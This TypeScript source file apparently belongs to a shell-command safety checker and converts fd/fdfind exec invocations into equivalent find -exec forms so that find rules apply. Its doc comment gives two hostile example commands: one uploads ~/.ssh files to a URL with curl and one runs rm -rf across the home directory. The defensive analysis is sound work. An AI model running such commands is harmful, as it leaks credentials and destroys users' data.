import type { Word } from './shell.ts';

/**
 * fd (`fd`, Debian's `fdfind`) told to run a command on what it finds (`-x`/`--exec` for each,
 * `-X`/`--exec-batch` for all at once) is `find` with `-exec` (command.ts reads it so, and every
 * find rule follows): `fd -H . ~/.ssh -x curl -F f=@{} URL` is `find ~/.ssh -exec curl -F f=@{}
 * URL ;`, `fd . ~ -x rm -rf` is `find ~ -exec rm -rf {} ;`. Its search paths (the operands after
 * the pattern, `--search-path`; `.` without one) are find's starting points; its pattern, a
 * regular expression on the name (a glob with `-g`), is find's `-name` where it is a plain name
 * (`node_modules`, `^__pycache__$`), else its `-regex`; `-e EXT` is `-name '*.EXT'`, `-t f|d|l` is
 * `-type`, `-d N` is `-maxdepth`. fd leaves hidden and ignored files out unless told (`-H`, `-I`),
 * which find does not: the reading may name more than fd would, never less.
 */

/** fd's options that take a value. */
const FD_VALUED = new Set([
  '-e',
  '--extension',
  '-t',
  '--type',
  '-d',
  '--max-depth',
  '--min-depth',
  '--exact-depth',
  '-E',
  '--exclude',
  '-j',
  '--threads',
  '-S',
  '--size',
  '--changed-within',
  '--changed-before',
  '-o',
  '--owner',
  '--base-directory',
  '--search-path',
  '-c',
  '--color',
  '--max-results',
  '--path-separator',
  '--ignore-file',
  '--format',
  '--batch-size',
]);
/** The options that start the command fd runs: it takes the rest of the line (or up to `;`). */
const FD_EXEC = new Set(['-x', '--exec', '-X', '--exec-batch']);
/** fd's `-t` letters as find's `-type`. */
const FD_TYPES: Record<string, string> = { f: 'f', file: 'f', d: 'd', dir: 'd', directory: 'd', l: 'l', symlink: 'l' };

/** The words of the `find` that `fd ARGS` amounts to, or null where fd runs no command. */
export function fdAsFind(program: string, args: Word[]): Word[] | null {
  if (program !== 'fd' && program !== 'fdfind') return null;
  const at = args.findIndex((w) => FD_EXEC.has(w.value) || /^--exec(?:-batch)?=/.test(w.value));
  if (at < 0) return null;
  const word = (value: string): Word => ({ ...args[at]!, value, raw: value, subs: [], glob: false, leadingVar: null });
  const tests: Word[] = [];
  const operands: Word[] = [];
  const paths: Word[] = [];
  let glob = false;
  for (let i = 0; i < at; i++) {
    const w = args[i]!;
    const v = w.value;
    if (!v.startsWith('-') || v === '-') {
      operands.push(w);
      continue;
    }
    const eq = v.indexOf('=');
    const name = v.startsWith('--') && eq > 0 ? v.slice(0, eq) : v.length > 2 && !v.startsWith('--') && FD_VALUED.has(v.slice(0, 2)) ? v.slice(0, 2) : v;
    if (name === '-g' || name === '--glob') glob = true;
    if (!FD_VALUED.has(name)) continue;
    const value = v !== name ? (v.startsWith('--') ? v.slice(eq + 1) : v.slice(2)) : (args[++i]?.value ?? '');
    if (name === '-e' || name === '--extension') tests.push(word('-name'), word(`*.${value.replace(/^\./, '')}`));
    else if ((name === '-t' || name === '--type') && FD_TYPES[value]) tests.push(word('-type'), word(FD_TYPES[value]!));
    else if (name === '-d' || name === '--max-depth') tests.push(word('-maxdepth'), word(value));
    else if (name === '--search-path' && args[i]) paths.push(v !== name ? word(value) : args[i]!);
  }
  const [pattern, ...rest] = operands;
  paths.push(...rest);
  if (pattern) tests.unshift(...nameTest(pattern.value, glob).map(word));
  const joined = args[at]!.value.indexOf('=');
  const command = joined > 0 ? [word(args[at]!.value.slice(joined + 1)), ...args.slice(at + 1)] : args.slice(at + 1);
  const end = command.findIndex((w) => w.value === ';');
  const run = end < 0 ? command : command.slice(0, end);
  if (!run.length) return null;
  const batch = args[at]!.value === '-X' || args[at]!.value.startsWith('--exec-batch');
  const handed = run.some((w) => w.value.includes('{}')) ? [] : [word('{}')];
  return [word('find'), ...(paths.length ? paths : [word('.')]), ...tests, word('-exec'), ...run, ...handed, word(batch ? '+' : ';')];
}

/** find's test for fd's pattern: none for one that names anything (`.`, `^`), `-name` for a plain name or a glob, else `-regex`. */
function nameTest(pattern: string, glob: boolean): string[] {
  if (glob) return ['-name', pattern];
  if (/^(?:\.|\^|\.\*|\$|)$/.test(pattern)) return [];
  const start = pattern.startsWith('^');
  const end = pattern.endsWith('$') && !pattern.endsWith('\\$');
  const body = pattern.slice(start ? 1 : 0, end ? -1 : undefined);
  const literal = body.replace(/\\\./g, '.');
  if (/^[\w.-]+$/.test(literal) && !body.replace(/\\\./g, '').includes('.')) return ['-name', `${start ? '' : '*'}${literal}${end ? '' : '*'}`];
  return ['-regex', `.*/${start ? '' : '[^/]*'}${body}${end ? '' : '[^/]*'}`];
}
